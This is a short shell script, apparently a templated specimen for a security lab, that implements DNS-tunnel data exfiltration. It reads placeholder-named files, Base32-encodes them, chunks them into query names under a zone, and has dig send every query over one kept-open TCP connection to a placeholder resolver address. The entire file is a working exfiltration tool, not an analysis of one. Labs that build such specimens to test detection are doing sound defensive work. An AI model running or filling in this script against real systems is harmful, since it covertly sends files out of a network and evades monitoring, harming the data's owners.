#!/bin/sh
# kcsi lab specimen: DNS tunnel over TCP with dig. Base32-encodes @@FILES@@ (lower case, no
# padding), writes one query name per 56 characters, <b32>.<seq>.<zone>, to @@QUEUE@@ and has
# dig send them all over one TCP connection (+keepopen) to @@RES_ADDR@@ port @@RES_PORT@@.
Z=@@ZONE@@
Q=@@QUEUE@@
cat @@FILES@@ 2>/dev/null | base32 -w0 | tr -d = | tr A-Z a-z | fold -w 56 \
    | awk -v z="$Z" '{print $0 "." NR-1 "." z}' > "$Q"
exec dig @@@RES_ADDR@@ -p @@RES_PORT@@ +tcp +keepopen +tries=1 +time=5 +short -t A -f "$Q"
